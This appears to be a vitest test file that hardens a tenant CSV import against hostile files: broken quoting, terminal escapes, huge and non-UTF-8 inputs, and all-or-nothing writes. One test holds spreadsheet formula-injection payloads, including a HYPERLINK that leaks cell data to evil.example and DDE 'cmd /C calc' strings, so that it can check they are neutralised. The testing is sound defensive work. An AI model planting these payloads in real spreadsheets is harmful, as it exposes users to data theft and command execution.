import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDispatch, type Dispatch } from '../../../src-main/app/dispatch';
import { createHandlers } from '../../../src-main/app/handlers';
import { runCli } from '../../../src-main/cli/main';
import { neutraliseFormula } from '../../../src-main/sheets/render-csv';
import { tempDir, tempServices } from '../../support/temp';
import { dumpLedger } from '../../hardening/ledger-dump';
import { expectEnvelope } from '../../hardening/envelope';
import { HOSTILE_DOMAINS, HOSTILE_EMAILS, HOSTILE_NAMES, NON_UTF8, REFUSED } from '../../hardening/hostile-values';

/**
 * Issue #10 item 1, tenant CSV import: hostile files through the contract (what the console sends) and the
 * CLI (a file on disk). Imports are all or nothing: any refused file leaves the ledger exactly as it was.
 */
const q = (s: string) => `"${s.replace(/"/g, '""')}"`;

describe('hostile CSV imports', () => {
  let s: ReturnType<typeof tempServices>;
  let dispatch: Dispatch;
  let cases = 0;
  const work = tempDir('behalf-hostile-csv-');

  beforeAll(() => {
    s = tempServices();
    dispatch = createDispatch(createHandlers(s));
    s.tenants.create({ name: 'Existing', domain: 'existing.com' });
  });
  afterAll(() => {
    console.log(`hostile inputs: ${cases} cases at the CSV import`);
    s?.close();
  });

  /** Imports through dispatch; returns the result, asserting all-or-nothing. */
  async function importCsv(csv: string, label: string) {
    cases++;
    const before = dumpLedger(s.db);
    const env = expectEnvelope(await dispatch('tenants.importCsv', { csv }), label);
    const result = env.ok ? (env.value as { imported: number; errors: { row: number; message: string }[]; rows: number }) : undefined;
    if (!env.ok || result!.errors.length > 0) {
      expect(dumpLedger(s.db), `${label}: refused but the ledger changed`).toBe(before);
      if (result) for (const e of result.errors) expect(e.message.length, label).toBeGreaterThan(5);
    }
    return { env, result };
  }

  it('BOM, CRLF mixes, lone CR, trailing blank lines', async () => {
    const bom = await importCsv('\uFEFFname,domain\r\nBom Co,bom.com\r\n', 'BOM + CRLF');
    expect(bom.result).toMatchObject({ imported: 1, errors: [] });
    const mixed = await importCsv('name,domain\r\nMix A,mix-a.com\nMix B,mix-b.com\rMix C,mix-c.com\r\n\r\n\n', 'CRLF / LF / CR mix');
    expect(mixed.result).toMatchObject({ imported: 3, errors: [] });
    expect(s.tenants.find('mix-c.com').name).toBe('Mix C');
    await importCsv('\uFEFF', 'only a BOM');
    await importCsv('', 'empty');
    await importCsv('name,domain\r\n', 'header only');
    await importCsv('\r\n\r\n\n', 'only line breaks');
  });

  it('broken quoting is refused with the line, nothing written', async () => {
    for (const [label, csv] of [
      ['unterminated quote', 'name,domain\nGood,good-q.com\n"Bad,bad.com\n'],
      ['unterminated quote at the end', 'name,domain\nGood,good-q.com\nBad,"bad.com'],
      ['more cells than the header', 'name,domain\nA,a.com,extra,more\n'],
      ['unknown column', 'name,domain,\u001B]0;pwned\u0007\nA,a.com,x\n'],
      ['no domain column', 'name,website\nA,a.com\n'],
      ['10k columns', `name,domain${',x'.repeat(10_000)}\n`],
      ['duplicate domain in the file', 'name,domain\nA,dup.com\nB,DUP.com.\n'],
      ['domain taken by the ledger', 'name,domain\nA,existing.com\n'],
    ] as const) {
      const r = await importCsv(csv, label);
      expect(r.env.ok === false || r.result!.errors.length > 0, label).toBe(true);
    }
    // A stray quote inside an unquoted cell is kept literally (as spreadsheets do), not a reason to refuse.
    expect((await importCsv('name,domain\nAb"c,abc.com\n', 'quote in the middle of a cell')).result).toMatchObject({ imported: 1 });
    expect(s.tenants.find('abc.com').name).toBe('Ab"c');
  });

  it('formula injection is stored literally, and neutralised where Behalf writes CSV', async () => {
    const formulas = [
      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '=1+1',
    ];
    const csv = 'name,domain,notes,contact_name\n' + formulas.map((f, i) => [q(f), `formula-${i}.com`, q(f), q(f)].join(',')).join('\n') + '\n';
    const r = await importCsv(csv, 'formulas');
    expect(r.result).toMatchObject({ imported: formulas.length, errors: [] });
    for (const [i, f] of formulas.entries()) {
      const t = s.tenants.find(`formula-${i}.com`);
      expect(t).toMatchObject({ name: f, notes: f, contactName: f });
      expect(neutraliseFormula(t.name).startsWith("'"), f).toBe(true);
    }
  });

  it('every hostile value from the table, as a CSV cell: the decided outcome, row by row', async () => {
    let n = 0;
    let outcomes = 0;
    /** Accepted: one tenant imported holding exactly the value; refused: nothing imported, line 2 named. */
    const check = async (csv: string, domain: string, field: 'domain' | 'contactEmail' | 'name', expected: string | typeof REFUSED, label: string) => {
      const r = await importCsv(csv, label);
      outcomes++;
      if (expected === REFUSED) {
        expect(r.result?.imported ?? 0, label).toBe(0);
        expect(r.env.ok === false || r.result!.errors.some((e) => e.row === 2), label).toBe(true);
      } else if (field === 'domain' && r.result?.errors.some((e) => /already belongs/.test(e.message))) {
        expect(r.result.imported, label).toBe(0); // a spelling of a domain imported before
      } else {
        expect(r.result, label).toMatchObject({ imported: 1, errors: [] });
        expect(s.tenants.find(field === 'domain' ? expected : domain)[field], label).toBe(expected);
      }
    };
    for (const { label, value, expect: typed, csv } of HOSTILE_DOMAINS)
      await check(`name,domain\nD,${q(value)}\n`, '', 'domain', csv ?? typed, `domain ${label}`);
    for (const { label, value, expect: typed, csv } of HOSTILE_EMAILS) {
      const expected = csv ?? typed;
      const domain = `csv-e${++n}.com`;
      await check(`name,domain,contact_email\nE,${domain},${q(value)}\n`, domain, 'contactEmail', expected, `email ${label}`);
    }
    for (const { label, value, expect: typed, csv } of HOSTILE_NAMES) {
      const expected = csv ?? typed;
      const domain = `csv-n${++n}.com`;
      await check(`name,domain,from_name\n${q(value)},${domain},${q(value)}\n`, domain, 'name', expected, `name ${label}`);
      if (expected !== REFUSED) expect(s.tenants.find(domain).fromName, label).toBe(expected);
    }
    expect(outcomes).toBe(HOSTILE_DOMAINS.length + HOSTILE_EMAILS.length + HOSTILE_NAMES.length);
  });

  it('50,000 rows with one bad row import nothing and name the line', async () => {
    const lines = ['name,domain'];
    for (let i = 0; i < 50_000; i++) lines.push(i === 37_123 ? 'Bad Row,not a domain' : `Bulk ${i},bulk-${i}.example.com`);
    const r = await importCsv(lines.join('\n') + '\n', '50k rows, one bad');
    expect(r.result).toMatchObject({ imported: 0, rows: 50_000 });
    expect(r.result!.errors).toHaveLength(1);
    expect(r.result!.errors[0]).toMatchObject({ row: 37_125 });
    expect(s.tenants.count()).toBeLessThan(100);
  }, 60_000);

  // Issue #22 changed the CLI's answer: a file that is not UTF-8 is read as Windows-1252 with a warning, and the CLI
  // writes nothing until the operator has seen it and says --as-is (the console shows the same note in its preview).
  it('non-UTF-8 bytes: refused through the console (read as text); the CLI reads Windows-1252 and waits for --as-is', async () => {
    const home = tempDir();
    for (const { label, bytes } of NON_UTF8) {
      const raw = Buffer.concat([Buffer.from('name,domain\nAcme '), bytes, Buffer.from(',nonutf8.com\n')]);
      // What a browser's FileReader.readAsText hands the console: bad bytes become U+FFFD.
      const r = await importCsv(raw.toString('utf8'), `non-UTF-8 ${label} (console)`);
      expect(r.result?.imported ?? 0, label).toBe(0);
      expect(JSON.stringify(r), label).toMatch(/UTF-8/);
      const f = path.join(work, `latin-${cases}.csv`);
      fs.writeFileSync(f, raw);
      const err: string[] = [];
      cases++;
      const code = await runCli(['tenants', 'import', f, '--home', home], { out: () => {}, err: (t) => err.push(t) }, {});
      expect(code, label).not.toBe(0);
      expect(err.join('\n'), label).toMatch(/not UTF-8, so it was read as Windows-1252/);
      expect(err.join('\n'), label).toMatch(/--as-is|Nothing imported/);
    }
    const listed: string[] = [];
    await runCli(['tenants', 'list', '--json', '--home', home], { out: (t) => listed.push(t), err: () => {} }, {});
    expect(JSON.parse(listed.join('')).total, 'a guessed encoding wrote tenants without --as-is').toBe(0);
  });

  it('a 60 MB CSV gets a clear size error at both doors', async () => {
    const row = 'Big Co,big-xxxxxxxxxxxxxxxxxxxxxx.example.com\n';
    const big = 'name,domain\n' + row.repeat(Math.ceil((60 * 1024 * 1024) / row.length));
    const r = await importCsv(big, '60 MB string');
    expect(r.env).toMatchObject({ ok: false, error: { code: 'input.invalid' } });
    expect(JSON.stringify(r.env)).toMatch(/50 MB/);
    const f = path.join(work, 'big.csv');
    fs.writeFileSync(f, big);
    const err: string[] = [];
    cases++;
    const code = await runCli(['tenants', 'import', f, '--home', tempDir()], { out: () => {}, err: (t) => err.push(t) }, {});
    expect(code).toBe(2);
    expect(err.join('\n')).toMatch(/over 50 MB/);
    fs.rmSync(f);
  }, 60_000);
});
